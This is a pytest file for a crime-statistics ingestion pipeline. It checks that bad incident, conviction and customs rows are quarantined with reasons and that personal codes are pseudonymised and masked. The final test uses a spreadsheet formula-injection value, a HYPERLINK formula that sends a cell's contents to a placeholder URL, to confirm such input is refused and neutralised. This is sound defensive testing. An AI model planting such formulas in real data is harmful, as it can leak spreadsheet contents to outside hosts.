"""Row contracts: every bad row lands in quarantine with file, line, field and reason; good rows
load, typed, with the personal code replaced by its keyed hash."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import duckdb
import pytest
from landing_files import (
    CONVICTION,
    INCIDENT,
    SEIZURE,
    VIOLATION,
    personal_code,
    write_convictions,
    write_customs,
    write_incidents,
)

from core.settings import load_settings
from ingestion.loading import load_partition
from ingestion.pseudonymisation import person_key


def quarantine_of(home: Path, register: str) -> dict[int, tuple[str, str, str]]:
    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
    try:
        rows = con.execute(
            "select _line, field, rule, reason from raw.quarantine where register = ?",
            [register],
        ).fetchall()
    finally:
        con.close()
    return {line: (field, rule, reason) for line, field, rule, reason in rows}


def incident(**changes: str) -> dict[str, str]:
    return INCIDENT | changes


def test_incident_rules_each_quarantined_with_reason(crimestat_home: Path) -> None:
    landing = crimestat_home / "landing"
    rows = [
        incident(),  # line 2: good
        incident(event_id="E-2", municipality="Atlantis"),  # 3
        incident(event_id="E-3", occurred_from="2022-03-05T10:00:00"),  # 4: after registration
        incident(event_id="E-4", status=""),  # 5
        incident(event_id="E-5", damage_eur="12,x"),  # 6
        incident(),  # 7: duplicate of line 2
        incident(event_id="E-6", offence_code=""),  # 8: criminal without offence code
        incident(event_id="E-7", lat="40.1"),  # 9: outside the country
        incident(event_id="E-8", registered_at="1899-12-31T00:00:00",
                 occurred_from="1899-12-30T00:00:00"),  # 10
        incident(event_id="E-9", offence_code="XYZ"),  # 11
        incident(event_id="E-10", version="2", status="pretrial_started",
                 pretrial_started_at="2022-03-02T11:00:00"),  # 12: good
    ]  # fmt: skip
    write_incidents(landing, "2022-03-02", rows)
    report = load_partition("incidents", "2022-03", load_settings())

    assert report.rows_read == 11
    assert report.rows_loaded == 2
    assert report.rows_quarantined == 9
    q = quarantine_of(crimestat_home, "incidents")
    assert q[3][:2] == ("municipality", "unknown_code") and "'Atlantis'" in q[3][2]
    assert q[4][:2] == ("registered_at", "impossible_date")
    assert q[4][2] == "registered_at 2022-03-02 is before occurred_from 2022-03-05"
    assert q[5][:2] == ("status", "missing_field")
    assert q[6][:2] == ("damage_eur", "malformed_value") and "'12,x'" in q[6][2]
    assert q[7][1] == "duplicate" and "line 2" in q[7][2]
    assert q[8][:2] == ("offence_code", "missing_field")
    assert q[9][:2] == ("lat", "malformed_value")
    assert q[10][1] == "impossible_date" and "1899" in q[10][2]
    assert q[11][:2] == ("offence_code", "malformed_value")


def test_broken_encoding_and_cut_row_are_quarantined(crimestat_home: Path) -> None:
    landing = crimestat_home / "landing"
    path = write_incidents(landing, "2022-03-02", [incident(), incident(event_id="E-2")])
    text = gzip.decompress(path.read_bytes())
    damaged = text.replace(b"E-2;1;", b"E-2;1;\xff", 1) + b"E-3;1;2022-03-0"
    path.write_bytes(gzip.compress(damaged, mtime=0))
    report = load_partition("incidents", "2022-03", load_settings())

    assert (report.rows_read, report.rows_loaded, report.rows_quarantined) == (3, 1, 2)
    q = quarantine_of(crimestat_home, "incidents")
    assert q[3][1] == "broken_encoding" and "0xFF" in q[3][2]
    assert q[4][1] == "truncated_row" and "cut short" in q[4][2]


def test_conviction_rules_and_pseudonymisation(crimestat_home: Path) -> None:
    landing = crimestat_home / "landing"
    good_code = CONVICTION["person_code"]
    bad_digit = good_code[:10] + str((int(good_code[10]) + 1) % 10)
    records = [
        CONVICTION,  # line 1: good
        CONVICTION | {"conviction_id": "C-2", "person_code": bad_digit},  # 2
        CONVICTION | {"conviction_id": "C-3", "birth_date": "2023-01-01"},  # 3
        CONVICTION | {"conviction_id": "C-4", "sanction": "exile"},  # 4
        CONVICTION | {"conviction_id": "C-5", "offences": [
            {"offence_code": "BK178-1", "attempt": False, "is_main": False}]},  # 5
        CONVICTION | {"conviction_id": "C-6", "citizenship": "QQ"},  # 6
        CONVICTION | {"conviction_id": "C-7", "person_code": None},  # 7
        CONVICTION | {"conviction_id": "C-8", "ecris_member_state": "LT"},  # 8: own country
        CONVICTION | {"conviction_id": "C-9", "version": 2, "status": "final",
                      "final_at": "2022-03-20", "sex": "F", "citizenship": None,
                      "person_code": personal_code("F", "2006-02-28"),
                      "birth_date": "2006-02-28", "ecris_member_state": "PL",
                      "offences": [
                          {"offence_code": "BK182", "attempt": False, "is_main": False},
                          {"offence_code": "BK129", "attempt": True, "is_main": True}]},  # 9
        '{"conviction_id": "C-10", "version": 1, "written_at": "2022-03-02T1',  # 10: cut
    ]  # fmt: skip
    path = write_convictions(landing, "2022-03-02", records)
    cut_short = gzip.decompress(path.read_bytes()).rstrip(b"\n")  # the extract ends mid-line
    path.write_bytes(gzip.compress(cut_short, mtime=0))
    settings = load_settings()
    report = load_partition("convictions", "2022-03", settings)

    assert (report.rows_read, report.rows_loaded, report.rows_quarantined) == (10, 2, 8)
    q = quarantine_of(crimestat_home, "convictions")
    assert q[2][:2] == ("person_code", "bad_check_digit")
    assert q[3][:2] == ("judgment_at", "impossible_date")
    assert q[4][:2] == ("sanction", "unknown_code") and "'exile'" in q[4][2]
    assert q[5][:2] == ("offences", "malformed_value") and "0 main offences" in q[5][2]
    assert q[6][:2] == ("citizenship", "unknown_code")
    assert q[7][:2] == ("person_code", "missing_field")
    assert q[8][:2] == ("ecris_member_state", "unknown_code")
    assert q[10][1] == "truncated_row"

    con = duckdb.connect(str(settings.warehouse_path), read_only=True)
    versions = con.execute(
        "select conviction_id, person_key, birth_year, age_at_judgment, sex, citizenship "
        "from raw.conviction_versions order by conviction_id"
    ).fetchall()
    offences = con.execute(
        "select conviction_id, offence_seq, offence_code, attempt, is_main "
        "from raw.conviction_offences order by all"
    ).fetchall()
    records_text = [
        r[0] for r in con.execute("select record from raw.quarantine order by _line").fetchall()
    ]
    con.close()
    secret = settings.pseudonymisation_key
    assert versions == [
        ("C-1", person_key(good_code, secret), 1990, 31, "M", "LT"),
        ("C-9", person_key(personal_code("F", "2006-02-28"), secret), 2006, 16, "F", None),
    ]
    assert offences == [
        ("C-1", 1, "BK178-1", False, True),
        ("C-9", 1, "BK182", False, False),
        ("C-9", 2, "BK129", True, True),
    ]
    assert not any(good_code in text or bad_digit in text for text in records_text)
    # A refused record keeps its non-personal fields; personal ones only as "(masked)".
    bad_record = json.loads(records_text[0])
    assert bad_record["conviction_id"] == "C-2" and bad_record["person_code"] == "(masked)"
    assert (
        bad_record["birth_date"] == "(masked)" and bad_record["sanction"] == CONVICTION["sanction"]
    )
    assert "2023-01-01" not in q[3][2] and q[3][2].endswith("is before birth_date")
    assert json.loads(records_text[-1]) == {"conviction_id": "C-10", "version": 1,
                                            "written_at": "(unreadable)"}  # fmt: skip


def test_customs_windows_1257_and_decimal_comma(crimestat_home: Path) -> None:
    landing = crimestat_home / "landing"
    write_customs(
        landing,
        "2022-03",
        [VIOLATION, VIOLATION | {"violation_id": "V-2", "border_section": "LT-XX"},
         VIOLATION | {"violation_id": "V-3", "detected_at": "2022-03-06T10:00:00"}],
        [SEIZURE, SEIZURE | {"line_no": "2", "unit": "barrels"},
         SEIZURE | {"line_no": "3", "quantity": "-5"}],
    )  # fmt: skip
    settings = load_settings()
    report = load_partition("customs", "2022-03", settings)
    assert (report.rows_read, report.rows_loaded, report.rows_quarantined) == (6, 2, 4)
    con = duckdb.connect(str(settings.warehouse_path), read_only=True)
    quarantined = con.execute("select _file, _line, field, rule from raw.quarantine").fetchall()
    assert sorted(quarantined) == [
        ("customs/2022-03/seizures_2022-03.csv", 3, "unit", "unknown_code"),
        ("customs/2022-03/seizures_2022-03.csv", 4, "quantity", "malformed_value"),
        ("customs/2022-03/violations_2022-03.csv", 3, "border_section", "unknown_code"),
        ("customs/2022-03/violations_2022-03.csv", 4, "written_at", "impossible_date"),
    ]
    post, lat = con.execute(
        "select customs_post, lat from raw.customs_violation_versions"
    ).fetchone()
    quantity, value = con.execute("select quantity, value_eur from raw.customs_seizures").fetchone()
    con.close()
    assert post == "Medininkų KP" and lat == pytest.approx(54.53)
    assert (float(quantity), float(value)) == (10000.0, 2500.5)


def test_customs_post_outside_the_reference_list_is_quarantined(crimestat_home: Path) -> None:
    """customs_post is a code list (seed reference/customs_posts), not free text: a formula
    never loads, and its quarantined record and reason cannot run in a spreadsheet."""
    formula = '=HYPERLINK("http://x/?"&A1,"post")'
    write_customs(
        crimestat_home / "landing",
        "2022-03",
        [VIOLATION, VIOLATION | {"violation_id": "V-2", "customs_post": "Vilniaus KP"},
         VIOLATION | {"violation_id": "=V-3", "customs_post": formula}],
        [SEIZURE],
    )  # fmt: skip
    report = load_partition("customs", "2022-03", load_settings())
    assert (report.rows_loaded, report.quarantined_by_rule) == (2, {"unknown_code": 2})
    q = quarantine_of(crimestat_home, "customs")
    assert q[3] == ("customs_post", "unknown_code", "customs_post 'Vilniaus KP' is not in the "
                    "code list (reference customs_posts)")  # fmt: skip
    assert q[4][:2] == ("customs_post", "unknown_code")
    con = duckdb.connect(str(crimestat_home / "warehouse.duckdb"), read_only=True)
    try:
        (record,) = con.execute("select record from raw.quarantine where _line = 4").fetchone()
        posts = con.execute("select customs_post from raw.customs_violation_versions").fetchall()
    finally:
        con.close()
    assert record.startswith("'=V-3;") and formula in record
    assert posts == [("Medininkų KP",)]
